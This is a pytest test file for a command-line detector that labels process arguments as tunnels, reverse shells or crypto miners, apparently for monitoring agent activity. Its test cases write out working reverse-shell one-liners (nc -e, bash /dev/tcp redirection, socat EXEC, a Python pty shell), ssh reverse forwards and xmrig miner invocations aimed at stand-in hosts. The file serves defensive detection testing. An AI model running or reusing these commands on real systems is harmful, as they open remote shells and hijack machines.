"""tracer/detect/argv.py, table-driven: which command lines name a tunnel, a reverse shell or a miner.

Every row says which ONE classifier must fire (or none) and a phrase its evidence must contain; the other
classifiers must stay silent, so that `socat ... EXEC:bash` is a shell and not a tunnel, and `pip install`
is nothing at all.
"""
from __future__ import annotations

import pytest

from tracer.detect import argv

TUNNEL, SHELL, MINER = "tunnel", "shell", "miner"
CLASSIFIERS = {TUNNEL: argv.tunnel_argv, SHELL: argv.shell_argv, MINER: argv.miner_argv}

REVSHELL_PY = ('import socket,os,pty;s=socket.socket();s.connect(("198.51.100.1",4444));'
               '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")')

# (id, argv, expected classifier or None, phrase the evidence must contain)
CASES = [
    # ---- ssh forwarding: every spelling ssh(1) accepts -------------------------------------------
    ("ssh-R", ["ssh", "-N", "-R", "9000:127.0.0.1:8000", "-p", "2222", "root@198.51.100.1"], TUNNEL, "-R"),
    ("ssh-L", ["ssh", "-L", "8080:10.0.0.5:80", "user@h"], TUNNEL, "-L"),
    ("ssh-D", ["ssh", "-D", "1080", "h"], TUNNEL, "-D"),
    ("ssh-w", ["ssh", "-w", "0:0", "h"], TUNNEL, "-w"),
    ("ssh-combined-NfR", ["ssh", "-NfR", "9000:localhost:22", "h"], TUNNEL, "-R"),
    ("ssh-combined-vCNL", ["ssh", "-vCNL", "8080:x:80", "h"], TUNNEL, "-L"),
    ("ssh-R-attached", ["ssh", "-R9000:x:1", "h"], TUNNEL, "-R"),
    ("ssh-R-after-options", ["ssh", "-p", "2222", "-i", "/k", "-o", "BatchMode=yes", "-R", "9000:x:1", "h"],
     TUNNEL, "-R"),
    ("ssh-o-RemoteForward=", ["ssh", "-o", "RemoteForward=9000 127.0.0.1:8000", "h"], TUNNEL, "RemoteForward"),
    ("ssh-oRemoteForward-attached", ["ssh", "-oRemoteForward=9000 x:1", "h"], TUNNEL, "RemoteForward"),
    ("ssh-o-LocalForward-space", ["ssh", "-o", "LocalForward 1 x:2", "h"], TUNNEL, "LocalForward"),
    ("ssh-o-lowercase", ["ssh", "-o", "dynamicforward=1080", "h"], TUNNEL, "dynamicforward"),
    ("ssh-o-Tunnel", ["ssh", "-o", "Tunnel=point-to-point", "h"], TUNNEL, "Tunnel"),
    # OpenSSH goes on parsing options after the destination, up to the first word of the remote command.
    ("ssh-R-after-destination", ["ssh", "-p", "2222", "root@198.51.100.1", "-N", "-R", "9000:127.0.0.1:8000"],
     TUNNEL, "-R"),
    ("ssh-o-after-destination", ["ssh", "h", "-o", "RemoteForward=9000 x:1"], TUNNEL, "RemoteForward"),
    ("ssh-full-path", ["/usr/bin/ssh", "-R", "9000:x:1", "h"], TUNNEL, "-R"),
    ("dbclient-R", ["dbclient", "-R", "9000:x:1", "h"], TUNNEL, "-R"),
    # ---- ssh that is not a tunnel ------------------------------------------------------------------
    ("ssh-true", ["ssh", "h", "true"], None, None),
    ("ssh-git-upload-pack", ["ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@h", "git-upload-pack 'x'"], None, None),
    ("ssh-git-with-port", ["ssh", "-o", "SendEnv=GIT_PROTOCOL", "-p", "2222", "root@198.51.100.1",
                           "git-upload-pack '/srv/repo.git'"], None, None),
    ("ssh-remote-command-with-R", ["ssh", "-p", "2222", "h", "ssh", "-R", "9000:x:1", "other"], None, None),
    ("ssh-R-after-remote-command", ["ssh", "h", "true", "-R", "9000:x:1"], None, None),
    ("ssh-after-double-dash", ["ssh", "--", "h", "-R", "9000:x:1"], None, None),
    ("ssh-option-value-looks-like-R", ["ssh", "-l", "-R", "h"], None, None),
    ("ssh-o-LocalCommand", ["ssh", "-o", "PermitLocalCommand=yes", "-o", "LocalCommand=true", "h"], None, None),
    ("ssh-o-ForwardAgent", ["ssh", "-o", "ForwardAgent=yes", "-A", "h", "true"], None, None),
    ("ssh-J-jump", ["ssh", "-J", "bastion", "h", "uptime"], None, None),
    ("ssh-keygen-R", ["ssh-keygen", "-R", "198.51.100.1"], None, None),
    ("scp", ["scp", "-P", "2222", "f", "root@h:/tmp/"], None, None),
    # ---- tunnel tools --------------------------------------------------------------------------------
    ("autossh", ["autossh", "-M", "0", "-N", "-R", "9000:x:1", "h"], TUNNEL, "autossh"),
    ("chisel", ["/tmp/chisel", "client", "h:8080", "R:9000:127.0.0.1:22"], TUNNEL, "chisel"),
    ("frpc", ["frpc", "-c", "frpc.toml"], TUNNEL, "frpc"),
    ("ngrok", ["ngrok", "tcp", "22"], TUNNEL, "ngrok"),
    ("cloudflared", ["cloudflared", "tunnel", "run", "x"], TUNNEL, "cloudflared"),
    ("sshuttle", ["sshuttle", "-r", "h", "0/0"], TUNNEL, "sshuttle"),
    ("wstunnel", ["wstunnel", "client", "-R", "tcp://9000:localhost:22", "ws://h:8080"], TUNNEL, "wstunnel"),
    ("tool-from-executable", [], TUNNEL, "chisel"),      # no argv read: the executable names it
    # ---- socat: relay (tunnel) vs EXEC (shell) vs a plain client -----------------------------------------
    ("socat-listen-relay", ["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:198.51.100.1:80"], TUNNEL, "socat"),
    ("socat-connect-relay", ["socat", "TCP:198.51.100.1:4444", "TCP:127.0.0.1:22"], TUNNEL, "socat"),
    ("socat-relay-with-debug", ["socat", "-d", "-d", "TCP4-LISTEN:1,fork", "TCP4:h:2"], TUNNEL, "socat"),
    ("socat-exec", ["socat", "TCP:198.51.100.1:4444", "EXEC:bash -li,pty,stderr,setsid"], SHELL, "socat"),
    ("socat-exec-lowercase", ["socat", "exec:/bin/sh", "tcp:h:4444"], SHELL, "socat"),
    ("socat-system", ["socat", "TCP:h:4444", "SYSTEM:sh -i"], SHELL, "socat"),
    ("socat-stdio-client", ["socat", "-", "TCP:198.51.100.1:80"], None, None),
    # ---- netcat --------------------------------------------------------------------------------------
    ("nc-e", ["nc", "-e", "/bin/sh", "198.51.100.1", "4444"], SHELL, "-e"),
    ("nc-c", ["nc.traditional", "-c", "sh", "h", "4444"], SHELL, "-c"),
    ("ncat-sh-exec", ["ncat", "--sh-exec", "bash -i", "h", "4444"], SHELL, "--sh-exec"),
    ("ncat-sh-exec=", ["ncat", "--sh-exec=bash -i", "h", "4444"], SHELL, "--sh-exec"),
    ("ncat-exec", ["ncat", "--exec", "/bin/bash", "h", "4444"], SHELL, "--exec"),
    # getopt accepts a value attached to the flag and flags combined before it: both are plain nc usage.
    ("nc-e-attached", ["nc", "-e/bin/sh", "198.51.100.1", "4444"], SHELL, "-e"),
    ("nc-combined-nve", ["nc", "-nve", "/bin/sh", "198.51.100.1", "4444"], SHELL, "-e"),
    ("nc-plain", ["nc", "-v", "198.51.100.1", "80"], None, None),
    ("nc-listen", ["nc", "-l", "-p", "8080"], None, None),
    # ---- shell redirection and interpreter shells ----------------------------------------------------------
    ("bash-dev-tcp", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4445 0>&1"], SHELL, "/dev/tcp"),
    ("sh-exec-dev-tcp", ["sh", "-c", "exec 5<>/dev/tcp/h/80; cat <&5 | sh >&5"], SHELL, "/dev/tcp"),
    ("bash-dev-udp", ["bash", "-c", "sh -i >& /dev/udp/h/53 0>&1"], SHELL, "/dev/tcp"),
    ("python-pty", ["python3", "-c", REVSHELL_PY], SHELL, "pty"),
    # ---- miners --------------------------------------------------------------------------------------
    ("xmrig", ["./xmrig", "-o", "pool:3333", "-u", "wallet"], MINER, "xmrig"),
    ("xmrig-capitalized", ["/opt/XMRig", "-c", "config.json"], MINER, "xmrig"),
    ("cpuminer", ["cpuminer", "-a", "sha256d", "-o", "pool:3333"], MINER, "cpuminer"),
    ("stratum-url", ["python3", "m.py", "stratum+tcp://198.51.100.1:3333"], MINER, "stratum+tcp://"),
    ("stratum-ssl", ["worker", "--url=stratum+ssl://pool:443"], MINER, "stratum+ssl://"),
    ("donate-level", ["./a.out", "--donate-level", "1", "-o", "pool:3333"], MINER, "--donate-level"),
    ("donate-level=", ["./a.out", "--donate-level=0"], MINER, "--donate-level"),
    ("algo-rx", ["./a.out", "--algo=rx/0", "-o", "pool:3333"], MINER, "rx/"),
    ("a-rx0", ["./a.out", "-a", "rx/0", "-o", "pool:3333"], MINER, "rx/0"),
    # ---- ordinary agent work ---------------------------------------------------------------------------
    ("pip-install", ["pip", "install", "requests"], None, None),
    ("curl-pypi", ["curl", "https://pypi.org/simple/"], None, None),
    ("train", ["python3", "train.py", "--lr", "3e-4"], None, None),
    ("git-clone-ssh", ["git", "clone", "ssh://git@github.com/org/repo.git"], None, None),
    ("http-server", ["python3", "-m", "http.server", "8000"], None, None),
    ("bash-devnull", ["bash", "-c", "echo hi > /dev/null 2>&1"], None, None),
    ("bash-login", ["bash", "-li"], None, None),
    ("sshd", ["/usr/sbin/sshd", "-D", "-e", "-f", "/tmp/sshd_config"], None, None),
    ("apt-netcat", ["apt-get", "install", "-y", "netcat-openbsd", "socat"], None, None),
    ("python-socket-no-pty", ["python3", "-c", "import socket; socket.create_connection(('h', 80))"], None, None),
]


@pytest.mark.parametrize("args,expected,phrase", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_classifiers(args, expected, phrase):
    executable = "/usr/local/bin/chisel" if not args else "/usr/bin/whatever"
    got = {kind: fn(args, executable) for kind, fn in CLASSIFIERS.items()}
    fired = {kind for kind, why in got.items() if why}
    assert fired == ({expected} if expected else set()), f"{args}: {got}"
    if expected:
        assert phrase.lower() in got[expected].lower(), f"evidence {got[expected]!r} should name {phrase!r}"


def test_case_ids_are_unique():
    ids = [c[0] for c in CASES]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("args,executable,name", [
    (["/usr/bin/ssh", "-R", "1:x:2", "h"], "/usr/bin/ssh", "ssh"),
    ([], "/usr/bin/socat", "socat"),
    (["bash"], "/bin/bash", "bash"),
])
def test_name_of(args, executable, name):
    assert argv.name_of(args, executable) == name


@pytest.mark.parametrize("args,expected", [
    (["bash", "-li"], True), (["/bin/sh", "-c", "x"], True), (["dash"], True), (["/usr/bin/zsh"], True),
    (["python3", "-c", "x"], True), (["/usr/bin/perl", "-e", "x"], True), (["socat"], False),
    (["bashful"], False), (["curl", "-s", "x"], False), (["pip", "install", "requests"], False),
])
def test_is_shell_or_interpreter(args, expected):
    assert argv.is_shell_or_interpreter(args) is expected
